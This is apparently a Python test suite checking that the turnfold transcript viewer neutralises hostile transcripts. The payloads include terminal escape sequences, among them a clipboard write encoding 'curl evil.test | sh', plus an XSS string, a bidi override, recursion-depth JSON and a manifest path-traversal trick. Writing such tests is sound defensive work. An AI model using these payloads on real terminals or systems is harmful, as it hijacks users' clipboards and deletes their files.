"""Hostile transcripts, end to end (spec X-1, X-2): what a transcript author controls must not
act on the reader's terminal, reorder what the widget shows, crash the page with a value nested
to the recursion limit, exhaust the kernel with millions of bad lines, or make a site rebuild
touch files outside the site.

``tests/test_security.py`` audits the HTML of every content function; these attacks go through
the loaders, the view model, the terminal and the static site instead.
"""

from __future__ import annotations

import json
import re
import sys
import zipfile
from pathlib import Path

import pytest

import turnfold
from turnfold.cli import main
from turnfold.codec import pretty
from turnfold.corpus.columns import cell, column, unreadable
from turnfold.formats import source
from turnfold.formats.harnesses import archive
from turnfold.model import ToolCall
from turnfold.render.page import render_page
from turnfold.render.site import MANIFEST, RUNS, build_site
from turnfold.render.text import render_text
from turnfold.render.viewmodel import build_view_model
from turnfold.widget import TranscriptWidget

#: What a terminal acts on (OSC 52 writes the clipboard, OSC 0 the title, CSI 2A moves the
#: cursor up over lines already printed) and a bidi override that reorders the line.
TERMINAL_ATTACK = "\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\x1b]0;owned\x07\x1b[2A\u202e"
#: Characters that must never reach a terminal or a text field raw.
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _line(record: dict[str, object]) -> str:
    return json.dumps({"sessionId": "s", "timestamp": "2025-01-01T00:00:00Z", **record})


def _session(path: Path, *middle: str) -> Path:
    """A Claude Code session: a prompt, the ``middle`` lines, an answer."""
    prompt = _line({"type": "user", "uuid": "u1",
                    "message": {"role": "user", "content": "hi"}})  # fmt: skip
    answer = _line({"type": "assistant", "uuid": "a9", "parentUuid": "u1",
                    "message": {"role": "assistant", "model": "m",
                                "content": [{"type": "text", "text": "the answer"}]}})  # fmt: skip
    path.write_text("\n".join([prompt, *middle, answer]) + "\n", encoding="utf-8")
    return path


# --- the terminal ---------------------------------------------------------------------------------


def test_X1_a_record_id_in_a_load_warning_cannot_drive_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # `turnfold show` names the first load problem on stderr, with the record's own id: an id
    # of escape sequences wrote the reader's clipboard and hid the lines above it.
    hostile = _line({"type": "assistant", "uuid": TERMINAL_ATTACK, "parentUuid": "u1",
                     "message": {"role": "assistant",
                                 "content": [{"type": "no-such-block", "text": "x"}]}})  # fmt: skip
    path = _session(tmp_path / "s.jsonl", hostile)
    transcript = turnfold.load(path)
    assert len(transcript.warnings) == 1
    shown = str(transcript.warnings[0])
    assert not RAW_CONTROLS.search(shown), shown
    assert "\\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\\x07" in shown  # shown, not obeyed
    assert "\\u202e" in shown
    assert main(["show", str(path)]) == 0
    out, err = capsys.readouterr()
    assert "no-such-block" in err
    assert not RAW_CONTROLS.search(err), err
    assert not RAW_CONTROLS.search(out), out
    assert "the answer" in out


def test_X1_an_archive_member_s_name_in_an_error_cannot_drive_the_terminal(
    tmp_path: Path,
) -> None:
    # `turnfold show log.eval#…` prints a refused member's error, which names the member: the
    # archive's author chose that name.
    path = tmp_path / "log.eval"
    with zipfile.ZipFile(path, "w") as made:
        made.writestr(f"samples/{TERMINAL_ATTACK}_epoch_1.json", "{}" * 100)
    with archive.open_archive(path) as log:
        info = log.infolist()[0]
        with pytest.raises(archive.ArchiveError) as refused:
            archive.read_member(log, info, name=str(path), limit=10)
    message = str(refused.value)
    assert "decompresses to more than 10 bytes" in message
    assert not RAW_CONTROLS.search(message), message
    assert "samples/\\x1b]52;c;" in message


# --- the widget's text fields ---------------------------------------------------------------------


def test_X1_the_model_s_name_cannot_reorder_the_widget_s_session_line(tmp_path: Path) -> None:
    # The widget sets the session line's facts as text: a U+202E in the model's name turned
    # the date, duration and counts after it right to left, where the page and the terminal
    # show it as ⟨U+202E⟩.
    model = "<img src=x onerror=alert(1)>\u202e\x1b]0;t\x07"
    answer = _line({"type": "assistant", "uuid": "a1", "parentUuid": "u1",
                    "message": {"role": "assistant", "model": model,
                                "content": [{"type": "text", "text": "ok"}]}})  # fmt: skip
    transcript = turnfold.load(_session(tmp_path / "s.jsonl", answer))
    session = TranscriptWidget(transcript).view["session"]
    texts = [session["text"]] + [p["text"] for p in session["parts"]]
    texts += [p["title"] for p in session["parts"] if p["title"]]
    for text in texts:
        assert not RAW_CONTROLS.search(text), text
    assert "<img src=x onerror=alert(1)>⟨U+202E⟩" in session["text"]  # text, set as text


def test_X1_a_browser_cell_shows_controls_and_bidi_as_visible_marks() -> None:
    # SessionBrowser's cells and filter labels are set as text too.
    shown = cell(column("model"), f"gpt{TERMINAL_ATTACK}", "en")
    assert not RAW_CONTROLS.search(shown["text"])
    assert shown["text"].endswith("⟨U+202E⟩")
    broken = unreadable(f"bad id {TERMINAL_ATTACK}", f"/runs/x{TERMINAL_ATTACK}.jsonl")
    for text in (broken["text"], broken["title"]):
        assert not RAW_CONTROLS.search(text), text


# --- a value nested to the recursion limit --------------------------------------------------------


def _deep(depth: int) -> str:
    return "[" * depth + '"bottom"' + "]" * depth


def test_X1_X2_a_value_nested_almost_to_the_recursion_limit_still_renders(tmp_path: Path) -> None:
    # The loader reads a value nested just under the recursion limit (its stack is shallow);
    # the page, the widget and the terminal met it again deep inside their own calls, and the
    # whole transcript failed with a RecursionError.
    done = {"type": "tool_result", "tool_use_id": "t1", "content": "done"}
    result = _line({"type": "user", "uuid": "r1", "parentUuid": "a1",
                    "message": {"role": "user", "content": [done]}})  # fmt: skip
    # The deepest value the loader reads from here (its stack depends on the caller's).
    for depth in range(sys.getrecursionlimit(), 0, -10):
        tool_use = '{"type":"tool_use","id":"t1","name":"mcp__srv__probe","input":{"deep":%s}}'
        call = ('{"type":"assistant","uuid":"a1","parentUuid":"u1","sessionId":"s",'
                '"message":{"role":"assistant","model":"m","content":[%s]}}'
                % (tool_use % _deep(depth)))  # fmt: skip
        transcript = turnfold.load(_session(tmp_path / "deep.jsonl", call, result))
        if any(isinstance(e, ToolCall) for e in transcript.entries):
            break
    assert depth > sys.getrecursionlimit() - 200
    page = render_page(transcript, expand=True)
    assert "bottom" in page
    assert "the answer" in page
    view = build_view_model(transcript)
    assert "the answer" in render_text(view)
    data, _ = TranscriptWidget(transcript)._repr_mimebundle_()
    assert "the answer" in data["text/html"]
    assert transcript.dump().count('"bottom"') == 1  # and the lossless dump


def test_X2_deep_json_is_written_exactly_as_the_stdlib_writes_it() -> None:
    value: object = {"k": [1, 2.5, None, True, 'é\n"', {}], "e": []}
    for _ in range(sys.getrecursionlimit() + 100):
        value = [value]
    limit = sys.getrecursionlimit()
    sys.setrecursionlimit(limit * 4)
    try:
        expected = json.dumps(value, indent=2, ensure_ascii=False)
    finally:
        sys.setrecursionlimit(limit)
    assert pretty(value) == expected


# --- millions of bad lines ------------------------------------------------------------------------


def test_X1_X2_past_the_listed_warnings_the_rest_are_counted_not_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # 20 MB of "x\n" (ten million unreadable lines) held ten million warnings: 2.5 GB of the
    # kernel. The first MAX_LISTED_WARNINGS are listed; one more says how many followed.
    monkeypatch.setattr(source, "MAX_LISTED_WARNINGS", 5)
    path = _session(tmp_path / "bad.jsonl", *["x"] * 13)
    transcript = turnfold.load(path)
    assert [str(w) for w in transcript.warnings[:5]] == [
        f"{path}:{line}: invalid JSON: Expecting value (column 1)" for line in range(2, 7)
    ]
    assert len(transcript.warnings) == 6
    assert str(transcript.warnings[5]) == (
        f"{path}:7: 8 more problem(s) like those above, not listed one by one"
    )
    assert transcript.accounting is not None
    assert sum(transcript.accounting.counts["(invalid JSON)"].values()) == 13  # every line
    assert [type(e).__name__ for e in transcript.entries][-1] == "AssistantText"


# --- the static site ------------------------------------------------------------------------------


def test_X1_a_site_rebuild_touches_nothing_a_tampered_manifest_points_outside_it(
    tmp_path: Path,
) -> None:
    # The manifest names the pages a rebuild deletes (a run that is gone) and rewrites (new
    # links to its neighbours): a site folder from elsewhere whose manifest named
    # "../../victim.txt" deleted that file.
    runs = tmp_path / "runs"
    runs.mkdir()
    _session(runs / "a.jsonl")
    _session(runs / "b.jsonl")
    out = tmp_path / "site"
    build_site(runs, out, progress=False, workers=1)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    manifest = json.loads((out / MANIFEST).read_text(encoding="utf-8"))
    for key, entry in manifest["files"].items():
        for run in entry["runs"]:
            run["page"] = "../../victim.txt"
            run["nav"] = ["x", "y"]  # as if its links had to be written anew
            if key.endswith("a.jsonl"):
                run["body"] = 0
    (out / MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
    (runs / "b.jsonl").unlink()  # gone: the last build's page of it is deleted
    report = build_site(runs, out, progress=False, workers=1)
    assert victim.read_text() == "keep me"
    assert report.rows == 1
    pages = sorted(p.name for p in (out / RUNS).iterdir())
    assert any(name.startswith("a.jsonl-") for name in pages)
    kept = json.loads((out / MANIFEST).read_text(encoding="utf-8"))["files"]
    assert all(run["page"] != "../../victim.txt" for e in kept.values() for run in e["runs"])


def test_X1_a_file_name_in_the_command_line_s_messages_cannot_drive_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A file named with an OSC title change, an OSC 52 clipboard write and a cursor move: the
    command line's messages on stderr, and a scan's warnings, show them escaped."""
    import warnings

    from turnfold.cli import main
    from turnfold.userwarn import warn_at_caller

    hostile = tmp_path / "x\x1b]0;pwned\x07\x1b]52;c;ZXZpbA==\x07\x1b[1A.jsonl"
    hostile.write_text("not json at all\n")
    main(["show", str(hostile)])
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert "\x07" not in err
    assert "\\x1b]52;c;ZXZpbA==" in err
    main(["show", str(tmp_path / "gone\x1b[2J.jsonl")])
    err = capsys.readouterr().err
    assert "\x1b" not in err
    assert "gone\\x1b[2J.jsonl: no such file" in err
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        warn_at_caller(f"{hostile}: skipped\nsecond line")
    (message,) = [str(w.message) for w in caught]
    assert "\x1b" not in message
    assert message.endswith("skipped\nsecond line")
